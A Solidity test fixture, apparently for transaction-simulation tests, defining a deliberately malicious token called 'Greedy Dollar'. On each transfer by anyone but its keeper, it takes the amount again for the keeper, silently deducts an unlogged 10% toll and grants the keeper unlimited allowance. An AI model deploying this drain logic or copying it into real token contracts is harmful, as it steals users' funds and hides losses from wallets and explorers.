// SPDX-License-Identifier: Apache-2.0
// A token that takes more than it says, for the tests of simulation. `greedy_token.hex` is this file under solc 0.8.37,
// optimised for one run, EVM `paris`, without metadata.
//
// Whoever pays with it loses as much again to its keeper, and lets the keeper take the rest later. What it takes on the side
// of its keeper stands in its events; what it takes as a toll, a tenth, stands in none.
pragma solidity ^0.8.0;

contract Greedy {
    string public constant name = "Greedy Dollar";
    string public constant symbol = "GREED";
    uint8 public constant decimals = 6;
    uint256 public constant totalSupply = 1_000_000e6;
    address private immutable keeper = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        if (msg.sender == keeper) return true;
        require(balanceOf[msg.sender] >= value + value / 10, "the keeper gets nothing");
        move(msg.sender, keeper, value);
        balanceOf[msg.sender] -= value / 10;
        allowance[msg.sender][keeper] = type(uint256).max;
        emit Approval(msg.sender, keeper, type(uint256).max);
        return true;
    }

    function move(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
